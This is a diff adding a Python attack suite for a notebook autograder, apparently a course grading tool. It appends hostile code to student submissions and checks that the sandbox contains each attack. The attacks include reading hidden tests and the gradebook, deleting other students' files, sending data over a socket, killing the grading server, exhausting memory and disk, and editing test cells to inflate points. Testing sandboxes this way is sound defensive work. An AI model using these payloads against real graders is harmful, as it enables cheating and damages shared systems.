@@ -1,0 +1,372 @@
+"""The attack suite: hostile submissions, what each must come to, and a judge.
+
+An attack is either code a student appends to the solution cell of ``f`` in the toy course
+(``toy_course.py``, it runs when that cell runs) or a change to the submitted files. Every
+attack is handed in next to an honest student; :func:`judge` then decides, per attack,
+whether the grader contained it. ``test_sandbox.py`` requires ``course autograde`` to
+contain every one; ``make attacks`` (run this file) also grades the same class with plain
+``nbgrader autograde`` and prints both columns.
+"""
+
+import hashlib
+import json
+import shutil
+import socket
+import sys
+import tempfile
+import threading
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+import psutil
+import toy_course as toy
+
+from course.grading import engine
+from course.grading import nbgrader_driver as driver
+from course.grading.notebooks import nbgrader_meta, read_notebook
+
+FULL = sum(toy.POINTS.values())
+ERROR_ROW = "error row"  # the submission gets a clear 'not graded' line, not a crash
+
+
+@dataclass
+class Attack:
+    name: str
+    code: str = ""  # appended to the solution cell of f; {root} and {port} are filled in
+    files: object = None  # or a function(folder, root) that tampers with the hand-in
+    outcome: object = FULL  # the attacker's total score, or ERROR_ROW
+    present: str = ""  # must appear in the attacker's outputs
+    absent: str = ""  # must not appear in the attacker's outputs
+    side_effect: str = ""  # a check of the machine after the run: see judge()
+
+
+def _set_nbformat_3(folder, root):
+    nb = read_notebook(folder / "toy.ipynb")
+    nbformat.write(nbformat.v3.convert.downgrade(nb), folder / "toy.ipynb", version=3)
+
+
+def _edit_cells(change):
+    def tamper(folder, root):
+        nb = read_notebook(folder / "toy.ipynb")
+        change(nb)
+        nbformat.write(nb, folder / "toy.ipynb")
+
+    return tamper
+
+
+def _cell(nb, grade_id):
+    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)
+
+
+def _duplicate_test_f(nb):
+    copy = json.loads(json.dumps(_cell(nb, "test_f")))
+    copy["id"] = "dup"
+    copy["source"] = "pass"
+    nb.cells.insert(1, nbformat.from_dict(copy))
+
+
+ATTACKS = [
+    # --- reading what a student must not see
+    Attack("read_hidden_tests_in_source",
+           "try:\n    print(open('{root}/source/toy/toy.ipynb').read())\n"
+           "except OSError as e:\n    print('blocked', type(e).__name__)",
+           present="blocked FileNotFoundError", absent="g(-4) == 16"),
+    Attack("read_gradebook",
+           "try:\n    print(open('{root}/gradebook.db', 'rb').read()[:64])\n"
+           "except OSError as e:\n    print('blocked', type(e).__name__)",
+           present="blocked FileNotFoundError", absent="SQLite"),
+    Attack("read_other_students",
+           "import os\ntry:\n    print(os.listdir('{root}/submitted'))\n"
+           "except OSError as e:\n    print('blocked', type(e).__name__)",
+           present="blocked FileNotFoundError", absent="honest"),
+    # --- writing and deleting
+    Attack("write_into_source",
+           "try:\n    open('{root}/source/toy/toy.ipynb', 'a').write(' ')\n"
+           "except OSError as e:\n    print('blocked', type(e).__name__)",
+           present="blocked", side_effect="source unchanged"),
+    Attack("delete_another_submission",
+           "import os\ntry:\n    os.remove('{root}/submitted/honest/toy/timestamp.txt')\n"
+           "except OSError as e:\n    print('blocked', type(e).__name__)",
+           present="blocked", side_effect="honest timestamp kept"),
+    Attack("write_into_the_course_package",
+           "import course, os\ntry:\n    open(os.path.join(os.path.dirname(course.__file__), "
+           "'evil.txt'), 'w').write('x')\nexcept OSError as e:\n    print('blocked', e.errno)",
+           present="blocked 30", side_effect="course package unchanged"),  # EROFS
+    # --- the network
+    Attack("network_connection",
+           "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), "
+           "timeout=2)\n    s.sendall(b'stolen')\n    print('connected')\n"
+           "except OSError as e:\n    print('blocked', type(e).__name__)",
+           present="blocked", absent="connected", side_effect="nothing received"),
+    # --- processes and signals
+    Attack("kill_the_execution_server",
+           "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", outcome=ERROR_ROW),
+    Attack("kill_own_process_group", "import os, signal\nos.killpg(0, signal.SIGKILL)",
+           outcome=0, present="DeadKernelError"),
+    Attack("exit_the_interpreter", "import os\nos._exit(0)", outcome=0,
+           present="DeadKernelError"),
+    Attack("background_process_outlives_the_run",
+           "import subprocess\nsubprocess.Popen(['sleep', '1234'], start_new_session=True)",
+           side_effect="no process left"),
+    # --- time, memory, disk, output
+    Attack("infinite_loop", "while True:\n    pass", present="CellTimeoutError"),
+    Attack("ignore_the_timeout",
+           "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
+           outcome=0, present="CellTimeoutError"),
+    Attack("exhaust_memory",
+           "import numpy as np\ntry:\n    big = np.ones(3 * 2**30 // 8)\n    print('allocated')\n"
+           "except MemoryError:\n    print('blocked MemoryError')",
+           present="blocked MemoryError"),
+    Attack("fill_the_disk",
+           "try:\n    with open('/tmp/huge', 'wb') as fh:\n        for _ in range(400):\n"
+           "            fh.write(b'0' * 2**20)\n"
+           "except OSError as e:\n    print('blocked', e.errno)",
+           present="blocked 27"),  # EFBIG
+    Attack("print_gigabytes",
+           "import sys\nfor _ in range(40):\n    sys.stdout.write('x' * 2**20)",
+           present="output cut", side_effect="notebook small"),
+    # --- the notebook file itself
+    Attack("broken_json",
+           files=lambda folder, root: (folder / "toy.ipynb").write_text('{"cells": ['),
+           outcome=ERROR_ROW),
+    Attack("binary_garbage",
+           files=lambda folder, root: (folder / "toy.ipynb").write_bytes(bytes(range(256)) * 8),
+           outcome=ERROR_ROW),
+    Attack("older_nbformat", files=_set_nbformat_3),  # upgraded and graded, as nbgrader does
+    Attack("renamed_notebook",
+           files=lambda folder, root: (folder / "toy.ipynb").rename(folder / "mine.ipynb"),
+           outcome=ERROR_ROW),
+    Attack("edit_a_test_cell", files=_edit_cells(lambda nb: setattr(
+        _cell(nb, "test_g"), "source", "pass"))),  # restored: the honest code still passes
+    Attack("delete_a_test_cell", files=_edit_cells(lambda nb: nb.cells.remove(
+        _cell(nb, "test_g")))),  # put back and graded
+    Attack("raise_the_points", files=_edit_cells(lambda nb: _cell(
+        nb, "test_f").metadata.nbgrader.update(points=100))),
+    Attack("turn_a_test_into_markdown", files=_edit_cells(lambda nb: setattr(
+        _cell(nb, "test_f"), "cell_type", "markdown"))),
+    Attack("duplicate_a_grade_id", files=_edit_cells(_duplicate_test_f)),
+    Attack("add_files",  # a module next to the notebook could shadow numpy or the checks
+           "import os\nprint('added file', 'visible' if os.path.exists('numpy.py') else 'absent')",
+           files=lambda folder, root: (folder / "numpy.py").write_text("allclose = None\n"),
+           present="added file absent"),
+]  # fmt: skip
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records whatever reaches it."""
+
+    def __init__(self):
+        self.received = []
+        self.server = socket.socket()
+        self.server.bind(("127.0.0.1", 0))
+        self.server.listen()
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self):
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.server.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                try:
+                    self.received.append(conn.recv(100))
+                except OSError:
+                    pass
+
+    def close(self):
+        self._stop.set()
+        self._thread.join()
+        self.server.close()
+
+
+def tree_digest(folder):
+    h = hashlib.sha256()
+    for path in sorted(Path(folder).rglob("*")):
+        if path.is_file() and "__pycache__" not in path.parts:
+            h.update(str(path).encode() + path.read_bytes())
+    return h.hexdigest()
+
+
+def outputs_text(nb):
+    """Everything a notebook's code cells printed, displayed or raised, as one string."""
+    parts = []
+    for cell in nb.cells:
+        for out in cell.get("outputs", []):
+            parts += [out.get("text", ""), out.get("ename", ""), out.get("evalue", "")]
+            parts.append(out.get("data", {}).get("text/plain", ""))
+    return "\n".join(parts)
+
+
+def leftover_processes():
+    return [
+        p for p in psutil.process_iter(["cmdline"])
+        if (p.info["cmdline"] or [])[:2] == ["sleep", "1234"]
+        or "course.grading.forkserver" in (p.info["cmdline"] or [])
+    ]  # fmt: skip
+
+
+def build_class(root, port):
+    """Hand in the honest student and every attack in the toy course at ``root``."""
+    toy.hand_in(root, ["passes_all"])
+    (root / "submitted" / "passes_all").rename(root / "submitted" / "honest")
+    honest = root / "submitted" / "honest" / toy.ASSIGNMENT
+    for attack in ATTACKS:
+        folder = root / "submitted" / attack.name / toy.ASSIGNMENT
+        shutil.copytree(honest, folder)
+        if attack.code:
+            nb = read_notebook(folder / "toy.ipynb")
+            _cell(nb, "f").source += "\n\n" + attack.code.format(root=root, port=port)
+            nbformat.write(nb, folder / "toy.ipynb")
+        if attack.files:
+            attack.files(folder, root)
+
+
+def snapshot(root):
+    """What the side-effect checks compare against after the run."""
+    import course
+
+    return {
+        "source": tree_digest(root / "source"),
+        "package": tree_digest(Path(course.__file__).parent),
+    }
+
+
+def judge(root, results, errors, before, listener):
+    """``{attack: (contained, why)}`` after a run that produced ``results`` and ``errors``."""
+    import course
+
+    verdicts = {}
+    for attack in ATTACKS:
+        problems = []
+        if attack.outcome == ERROR_ROW:
+            if attack.name not in errors:
+                problems.append("no error row")
+        elif attack.name not in results:
+            problems.append(f"not graded: {errors.get(attack.name, 'missing')}")
+        elif results[attack.name].score != attack.outcome:
+            problems.append(f"score {results[attack.name].score:g} != {attack.outcome}")
+        path = root / "autograded" / attack.name / toy.ASSIGNMENT / "toy.ipynb"
+        if path.is_file() and (attack.present or attack.absent):
+            text = outputs_text(read_notebook(path))
+            if attack.present and attack.present not in text:
+                problems.append(f"{attack.present!r} not in the outputs")
+            if attack.absent and attack.absent in text:
+                problems.append(f"{attack.absent!r} leaked into the outputs")
+        check = attack.side_effect
+        if check == "source unchanged" and tree_digest(root / "source") != before["source"]:
+            problems.append("source/ was changed")
+        if check == "course package unchanged" and (
+            tree_digest(Path(course.__file__).parent) != before["package"]
+        ):
+            problems.append("the course package was changed")
+        if (
+            check == "honest timestamp kept"
+            and not (root / "submitted" / "honest" / toy.ASSIGNMENT / "timestamp.txt").is_file()
+        ):
+            problems.append("another student's file was deleted")
+        if check == "nothing received" and listener.received:
+            problems.append("data reached a server outside")
+        if check == "no process left" and leftover_processes():
+            problems.append("a process outlived the run")
+        if check == "notebook small" and path.is_file() and path.stat().st_size > 10 * 2**20:
+            problems.append("the autograded notebook is huge")
+        verdicts[attack.name] = (not problems, "; ".join(problems))
+    return verdicts
+
+
+def _clean_up():
+    """Undo what an uncontained attack may have left on this machine."""
+    import course
+
+    (Path(course.__file__).parent / "evil.txt").unlink(missing_ok=True)
+    Path("/tmp/huge").unlink(missing_ok=True)
+    for proc in leftover_processes():
+        proc.kill()
+
+
+def _plain_nbgrader(root):
+    """Grade with the real ``nbgrader autograde`` command, in its own process.
+
+    An attack may kill the grading process itself; then the students after it are never
+    graded, which is what an instructor would see.
+    """
+    import os
+    import subprocess
+
+    bin_dir = Path(sys.executable).parent
+    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"}
+    subprocess.run(
+        [str(bin_dir / "nbgrader"), "autograde", toy.ASSIGNMENT],
+        cwd=root,
+        env=env,
+        capture_output=True,
+        timeout=1800,
+    )
+    results, errors = {}, {}
+    with driver.nbgrader_api(root) as api:
+        for folder in sorted((root / "submitted").iterdir()):
+            try:
+                results[folder.name] = driver.submission_result(
+                    api, toy.ASSIGNMENT, folder.name, toy.NOTEBOOK
+                )
+            except Exception as exc:  # not graded, for whatever reason
+                errors[folder.name] = f"not graded ({type(exc).__name__})"
+    return results, errors
+
+
+def run(root, listener, grader):
+    """Build the class at ``root``, grade it with ``grader``, and judge every attack.
+
+    Args:
+        grader: ``"course"`` (course autograde, sandboxed) or ``"nbgrader"``.
+    """
+    toy.make_course(root, timeout=2)
+    build_class(root, listener.port)
+    before = snapshot(root)
+    try:
+        if grader == "course":
+            summary = engine.autograde(root, toy.ASSIGNMENT)
+            results, errors = summary.results, summary.errors
+        else:
+            results, errors = _plain_nbgrader(root)
+        return results, errors, judge(root, results, errors, before, listener)
+    finally:
+        _clean_up()
+
+
+def main():
+    """``make attacks``: both graders against the whole suite, as a Markdown table."""
+    columns = {}
+    with tempfile.TemporaryDirectory(prefix="course-attacks-") as tmp:
+        for grader in ("course", "nbgrader"):
+            print(f"grading the attack class with {grader} autograde ...", file=sys.stderr)
+            listener = Listener()
+            try:
+                columns[grader] = run(Path(tmp) / grader, listener, grader)[2]
+            finally:
+                listener.close()
+    print("| attack | course autograde | plain nbgrader autograde |")
+    print("|---|---|---|")
+    for attack in ATTACKS:
+        cells = []
+        for grader in ("course", "nbgrader"):
+            ok, why = columns[grader][attack.name]
+            cells.append("contained" if ok else f"**not contained**: {why}")
+        print(f"| {attack.name} | {cells[0]} | {cells[1]} |")
+    missed = [a.name for a in ATTACKS if not columns["course"][a.name][0]]
+    print(
+        f"\ncourse autograde contained {len(ATTACKS) - len(missed)} of {len(ATTACKS)}; "
+        f"nbgrader contained {sum(ok for ok, _ in columns['nbgrader'].values())}."
+    )
+    return 1 if missed else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
